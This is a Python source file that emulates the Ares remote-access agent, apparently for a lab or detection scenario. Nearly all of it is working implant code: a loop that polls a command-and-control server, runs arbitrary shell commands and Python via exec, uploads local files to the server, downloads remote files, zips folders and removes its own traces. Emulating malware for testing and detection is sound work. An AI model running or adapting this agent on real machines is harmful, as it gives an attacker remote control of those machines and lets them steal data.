#!/usr/bin/env python3
"""ares_agent.py - an emulation of the Ares agent (sweetsoftware/Ares,
agent/agent.py) for the `ares` scenario. Our own Python 3 code, on
Debian's python3-requests as the original uses requests.

What it reproduces on the wire:

* The agent's id: the user name and the MAC address as a number
  (`<user>_<uuid.getnode()>`).
* The polling loop: POST /api/<id>/hello with JSON {platform, hostname,
  username}, one new connection per request as requests opens them; the
  answer is a command or nothing. While idle it waits HELLO_INTERVAL
  between polls, after a command every 0.5 s until IDLE_TIME passes
  without one. Errors count as failed connections; after
  MAX_FAILED_CONNECTIONS in a row the agent cleans up and exits.
* Every command is echoed to the console (`$ <command>`) and its output
  sent with POST /api/<id>/report (form `output`, blank line appended).
* Commands: `cd`, `upload <file>` (multipart POST /api/<id>/upload,
  field `uploaded`), `download <url> [destination]` (a GET, streamed to
  disk), `zip <archive> <path>`, `python <code|file>`, `persist`, `clean`,
  `exit`, `help`, and anything else as a shell command; upload, download,
  zip, python and shell commands run in threads as in Ares.

Its settings (server, hello_interval, hello_jitter, idle_time, user_agent,
seed) come from config.json beside it, as Ares bakes config.py into its
agents. Where it differs: a drawn jitter (a fraction) varies each idle
wait (the original has none: jitter 0 is the original); a drawn
User-Agent (requests' own by default); `persist` does
what Ares does for an uncompiled agent (refuses); `screenshot` answers
that there is no display. Exit status 0 after the `exit` command, 1 when
the C2 could not be reached.
"""

import getpass
import json
import os
import platform
import random
import shutil
import socket
import subprocess
import sys
import threading
import time
import traceback
import uuid
import zipfile
from io import StringIO

import requests
import urllib3

urllib3.disable_warnings()

# The agent's configuration, baked in as Ares's builder bakes config.py
# (here a JSON file next to the agent, written when the host is infected).
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "config.json")) as _f:
    CONFIG = json.load(_f)
SERVER = CONFIG.get("server", "http://c2:8080")
HELLO_INTERVAL = float(CONFIG.get("hello_interval", 2))
HELLO_JITTER = float(CONFIG.get("hello_jitter", 0))
IDLE_TIME = float(CONFIG.get("idle_time", 60))
MAX_FAILED_CONNECTIONS = 10
USER_AGENT = CONFIG.get("user_agent", "")
rng = random.Random(int(CONFIG.get("seed", 0)))

HELP = """
<any shell command>
Executes the command in a shell and return its output.

upload <local_file>
Uploads <local_file> to server.

download <url> <destination>
Downloads a file through HTTP(S).

zip <archive_name> <folder>
Creates a zip archive of the folder.

screenshot
Takes a screenshot.

python <command|file>
Runs a Python command or local file.

persist
Installs the agent.

clean
Uninstalls the agent.

exit
Kills the agent.
"""


def threaded(func):
    def wrapper(*args):
        threading.Thread(target=func, args=args).start()

    return wrapper


class Agent:
    def __init__(self):
        self.idle = True
        self.silent = False
        self.platform = platform.system() + " " + platform.release()
        self.last_active = time.time()
        self.failed_connections = 0
        self.uid = getpass.getuser() + "_" + str(uuid.getnode())
        self.hostname = socket.gethostname()
        self.username = getpass.getuser()
        self.headers = {"User-Agent": USER_AGENT} if USER_AGENT else {}
        self.exiting = False

    def log(self, text):
        print("agent:", text, flush=True)

    def post(self, path, **kwargs):
        return requests.post(SERVER + path, headers=self.headers, verify=False, timeout=30, **kwargs)

    def server_hello(self):
        req = self.post(
            "/api/" + self.uid + "/hello",
            json={"platform": self.platform, "hostname": self.hostname, "username": self.username},
        )
        return req.text

    def send_output(self, output, newlines=True):
        if self.silent:
            self.log(output)
            return
        if not output:
            return
        if newlines:
            output += "\n\n"
        self.post("/api/" + self.uid + "/report", data={"output": output})

    @staticmethod
    def expand_path(path):
        return os.path.expandvars(os.path.expanduser(path))

    @threaded
    def runcmd(self, cmd):
        try:
            proc = subprocess.Popen(cmd, shell=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            out, err = proc.communicate()
            self.send_output((out + err).decode(errors="replace"))
        except Exception:
            self.send_output(traceback.format_exc())

    @threaded
    def python(self, command_or_file):
        new_stdout, old_stdout = StringIO(), sys.stdout
        new_stderr, old_stderr = StringIO(), sys.stderr
        sys.stdout, sys.stderr = new_stdout, new_stderr
        try:
            if os.path.exists(command_or_file):
                self.send_output("[*] Running python file...")
                with open(command_or_file) as f:
                    code = f.read()
            else:
                self.send_output("[*] Running python command...")
                code = command_or_file
            try:
                exec(code, {})
            except Exception:
                self.send_output(traceback.format_exc())
        finally:
            sys.stdout, sys.stderr = old_stdout, old_stderr
        self.send_output(new_stdout.getvalue() + new_stderr.getvalue())

    def cd(self, directory):
        os.chdir(self.expand_path(directory))

    @threaded
    def upload(self, file):
        file = self.expand_path(file)
        try:
            if os.path.exists(file) and os.path.isfile(file):
                self.send_output("[*] Uploading %s..." % file)
                with open(file, "rb") as f:
                    self.post("/api/" + self.uid + "/upload", files={"uploaded": f})
            else:
                self.send_output("[!] No such file: " + file)
        except Exception:
            self.send_output(traceback.format_exc())

    @threaded
    def download(self, file, destination=""):
        try:
            destination = self.expand_path(destination)
            if not destination:
                destination = file.split("/")[-1]
            self.send_output("[*] Downloading %s..." % file)
            req = requests.get(file, stream=True, headers=self.headers, verify=False, timeout=30)
            with open(destination, "wb") as f:
                for chunk in req.iter_content(chunk_size=8000):
                    if chunk:
                        f.write(chunk)
            self.send_output("[+] File downloaded: " + destination)
        except Exception:
            self.send_output(traceback.format_exc())

    def persist(self):
        self.send_output("[!] Persistence only supported on compiled agents.")

    def clean(self):
        persist_dir = self.expand_path("~/.ares")
        if os.path.exists(persist_dir):
            shutil.rmtree(persist_dir)
        self.send_output("[+] Agent removed successfully.")

    def exit(self):
        self.send_output("[+] Exiting... (bye!)")
        self.exiting = True

    @threaded
    def zip(self, zip_name, to_zip):
        try:
            zip_name = self.expand_path(zip_name)
            to_zip = self.expand_path(to_zip)
            if not os.path.exists(to_zip):
                self.send_output("[+] No such file or directory: %s" % to_zip)
                return
            self.send_output("[*] Creating zip archive...")
            with zipfile.ZipFile(zip_name, "w", zipfile.ZIP_DEFLATED) as zf:
                if os.path.isdir(to_zip):
                    relative_path = os.path.dirname(to_zip)
                    for root, _, files in os.walk(to_zip):
                        for file in files:
                            path = os.path.join(root, file)
                            zf.write(path, path.replace(relative_path, "", 1))
                else:
                    zf.write(to_zip, os.path.basename(to_zip))
            self.send_output("[+] Archive created: %s" % zip_name)
        except Exception:
            self.send_output(traceback.format_exc())

    def help(self):
        self.send_output(HELP)

    def handle(self, commandline):
        self.send_output("$ " + commandline)
        split_cmd = commandline.split(" ")
        command, args = split_cmd[0], split_cmd[1:]
        if command == "cd":
            if not args:
                self.send_output("usage: cd </path/to/directory>")
            else:
                self.cd(args[0])
        elif command == "upload":
            if not args:
                self.send_output("usage: upload <localfile>")
            else:
                self.upload(args[0])
        elif command == "download":
            if not args:
                self.send_output("usage: download <remote_url> <destination>")
            elif len(args) == 2:
                self.download(args[0], args[1])
            else:
                self.download(args[0])
        elif command == "clean":
            self.clean()
        elif command == "persist":
            self.persist()
        elif command == "exit":
            self.exit()
        elif command == "zip":
            if len(args) < 2:
                self.send_output("usage: zip <archive_name> <folder>")
            else:
                self.zip(args[0], " ".join(args[1:]))
        elif command == "python":
            if not args:
                self.send_output("usage: python <python_file> or python <python_command>")
            else:
                self.python(" ".join(args))
        elif command == "screenshot":
            self.send_output("[!] No display to capture.")
        elif command == "help":
            self.help()
        else:
            self.runcmd(commandline)

    def sleep_idle(self):
        time.sleep(HELLO_INTERVAL * rng.uniform(1 - HELLO_JITTER, 1 + HELLO_JITTER))

    def run(self):
        self.log("id %s, polling %s every %.2f s (jitter %.2f)" % (self.uid, SERVER, HELLO_INTERVAL, HELLO_JITTER))
        while True:
            try:
                todo = self.server_hello()
                self.failed_connections = 0
                if todo:
                    self.log("command: %s" % todo)
                    self.idle = False
                    self.last_active = time.time()
                    try:
                        self.handle(todo)
                    except Exception:
                        self.send_output(traceback.format_exc())
                    if self.exiting:
                        return 0
                elif self.idle:
                    self.sleep_idle()
                elif time.time() - self.last_active > IDLE_TIME:
                    self.log("Switching to idle mode...")
                    self.idle = True
                else:
                    time.sleep(0.5)
            except Exception as exc:
                self.failed_connections += 1
                self.log("Consecutive failed connections: %d (%s)" % (self.failed_connections, exc))
                if self.failed_connections > MAX_FAILED_CONNECTIONS:
                    self.silent = True
                    self.clean()
                    return 1
                time.sleep(HELLO_INTERVAL)


if __name__ == "__main__":
    sys.exit(Agent().run())
